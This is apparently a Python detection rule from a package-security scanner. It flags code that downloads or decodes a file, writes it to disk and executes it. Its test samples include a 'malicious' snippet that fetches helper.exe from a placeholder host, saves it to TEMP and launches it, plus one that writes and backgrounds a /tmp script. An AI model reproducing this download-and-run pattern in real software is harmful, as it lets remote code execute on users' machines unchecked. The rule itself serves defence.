"""A file that was downloaded or decoded, written and then started."""

from __future__ import annotations

from collections.abc import Iterator

from wheelmark.scan.facts import Act, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import fetched_from_drop, graded, told
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import Taint


def check(facts: Facts) -> Iterator[Evidence]:
    drops = fetched_from_drop(facts)
    for call in facts.calls_of(Act.START_PROCESS, Act.RUN_CODE):
        paths = call.origins_of(Taint.DROPPED)
        if not paths:
            continue
        # A script of one's own text, written and started, is roundabout, but shows what it does.
        own = all(origin.what.startswith("own text") for origin in paths)
        most, least = (Severity.HIGH, Severity.LOW) if own else (Severity.CRITICAL, Severity.MEDIUM)
        if any((call.member, origin.line) in drops for origin in paths):
            least = most  # whoever keeps a program there does not want to be known
        severity = graded(call.context, automatic=most, entry=least, on_call=least)
        if severity is not None:
            yield Evidence.of_call(call, severity, f"{call.name}({call.text[:120]}) after {told(paths)}")


RULE = Rule(
    id="dropped-file-run",
    version=2,
    severity=Severity.CRITICAL,
    tactic=Tactic.EXECUTION,
    message="A file is downloaded or decoded, written to disk and started.",
    reference="https://attack.mitre.org/techniques/T1204/002/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import os
                import subprocess

                import requests

                _target = os.path.join(os.getenv("TEMP", "."), "helper.exe")
                with open(_target, "wb") as file:
                    file.write(requests.get("https://files.example.invalid/helper").content)
                subprocess.Popen([_target])
            """),
            Sample.imported("""
                import os

                with open("/tmp/widget.py", "w") as file:
                    file.write("print(1)")
                os.system("python3 /tmp/widget.py &")
            """),
        ),
        benign=(
            Sample.imported("""
                import subprocess
                import urllib.request


                def fetch_table(path="table.csv"):
                    urllib.request.urlretrieve("https://data.example.invalid/table.csv", path)


                def show_log():
                    subprocess.run(["git", "log", "-1"], check=True)
            """),
        ),
    ),
)
